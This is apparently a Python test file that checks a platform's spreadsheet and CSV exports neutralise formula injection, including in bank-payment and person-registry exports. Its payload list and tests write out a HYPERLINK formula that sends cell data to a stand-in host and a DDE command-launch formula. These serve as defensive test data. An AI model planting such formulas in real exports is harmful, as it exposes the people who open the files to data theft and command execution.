"""The one spreadsheet writer: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from openpyxl import load_workbook
from test_programs_cycles import enroll, generate, make_setup

from canlian.platform.exports import Sheet, csv_bytes, safe_cell, xlsx_bytes
from canlian.programs import cycles
from canlian.programs.models import Enrollment

PAYLOADS = ["=HYPERLINK(\"http://x/?\"&C2,\"点击\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_safe_cell():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    for harmless in ("张三", "370502199003077777", "", "a=b"):
        assert safe_cell(harmless) == harmless
    assert safe_cell(Decimal("-5.00")) == Decimal("-5.00")  # numbers stay numbers


def test_xlsx_and_csv_hold_no_formula():
    data, count = xlsx_bytes([Sheet("s", ["a", "b"], [[p, Decimal("1.50")] for p in PAYLOADS])])
    assert count == len(PAYLOADS)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert all(c[0].startswith("'") for c in cells) and cells[0][1] == 1.5
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    text, count = csv_bytes(["a"], [[p] for p in PAYLOADS])
    rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_the_bank_file_neutralises_an_account_holder(regions, make_user):
    setup = make_setup(make_user)
    e = enroll(setup["nursing"], applied=dt.date(2025, 5, 1))
    Enrollment.objects.filter(pk=e.pk).update(account_holder="=cmd|' /C calc'!A0")
    cycle = generate(setup, dt.date(2025, 5, 1)).cycle
    cycles.cycle_approve(actor=setup["checker"], cycle_id=cycle.pk)
    data, _name = cycles.cycle_export(actor=setup["maker"], cycle_id=cycle.pk, fmt="xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    holder = [row[5] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert holder == ["'=cmd|' /C calc'!A0"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_person_export_neutralises_an_imported_address(regions, make_user):
    from registry_factories import registered

    from canlian.core.registry.exporting import persons_export
    from canlian.core.registry.selectors import PersonFilters

    registered(name="注入", residence_address='=HYPERLINK("http://x/?"&C2,"点击")')
    out = io.BytesIO()
    assert persons_export(user=make_user("county_admin", "370502"), filters=PersonFilters(), stream=out) == 1
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == "'" + '=HYPERLINK("http://x/?"&C2,"点击")' for c in cells)
